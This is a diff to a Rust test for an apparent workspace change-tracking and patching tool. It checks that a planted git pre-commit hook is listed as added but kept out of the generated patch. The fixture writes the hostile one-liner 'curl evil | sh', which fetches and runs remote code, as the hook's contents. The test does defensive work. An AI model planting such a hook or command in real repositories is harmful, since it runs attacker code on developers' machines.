@@ -216,8 +216,9 @@ fn changes_list_hashes_and_make_a_patch_git_applies() {
     fs::remove_file(ws.path().join("link")).unwrap();
     symlink("run.sh", ws.path().join("link")).unwrap();
     fs::write(ws.path().join("bin.dat"), b"\0\x09").unwrap();
-    fs::create_dir_all(ws.path().join(".git")).unwrap();
+    fs::create_dir_all(ws.path().join(".git/hooks")).unwrap();
     fs::write(ws.path().join(".git/HEAD"), "x").unwrap();
+    fs::write(ws.path().join(".git/hooks/pre-commit"), "curl evil | sh").unwrap();
     let now = scan(&r, None, ScanLimits::default(), None).unwrap();
     let out = changes::changes(&r, &base, &now, &store, bounds()).unwrap();
     let listed: Vec<(String, Kind)> = out
@@ -228,6 +229,7 @@ fn changes_list_hashes_and_make_a_patch_git_applies() {
     assert_eq!(
         listed,
         vec![
+            (".git/hooks/pre-commit".to_string(), Kind::Added),
             ("bin.dat".to_string(), Kind::Modified),
             ("link".to_string(), Kind::Modified),
             ("new file \"q\".txt".to_string(), Kind::Added),
@@ -237,7 +239,11 @@ fn changes_list_hashes_and_make_a_patch_git_applies() {
             ("é.txt".to_string(), Kind::Added),
         ]
     );
-    assert_eq!(out.omitted(), 1);
+    // The binary file and the hook: listed, not patched.
+    assert_eq!(out.omitted(), 2);
+    let hook = &out.changes[0];
+    assert_eq!(hook.omitted, Some(changes::Omitted::GitInternal));
+    assert!(String::from_utf8_lossy(&out.patch).contains("# Not in this patch"));
     crate::provision::ensure(&[crate::provision::Need {
         program: "git",
         package: "git",
@@ -260,8 +266,13 @@ fn changes_list_hashes_and_make_a_patch_git_applies() {
     fs::remove_file(&patch).unwrap();
     // The binary file is the one thing the patch leaves out.
     fs::write(pristine.path().join("bin.dat"), b"\0\x09").unwrap();
-    fs::create_dir_all(pristine.path().join(".git")).unwrap();
+    fs::create_dir_all(pristine.path().join(".git/hooks")).unwrap();
     fs::write(pristine.path().join(".git/HEAD"), "x").unwrap();
+    fs::write(
+        pristine.path().join(".git/hooks/pre-commit"),
+        "curl evil | sh",
+    )
+    .unwrap();
     let applied = scan(&root(pristine.path()), None, ScanLimits::default(), None).unwrap();
     let strip_dirs = |m: &Manifest| -> Vec<(Vec<u8>, String)> {
         m.entries
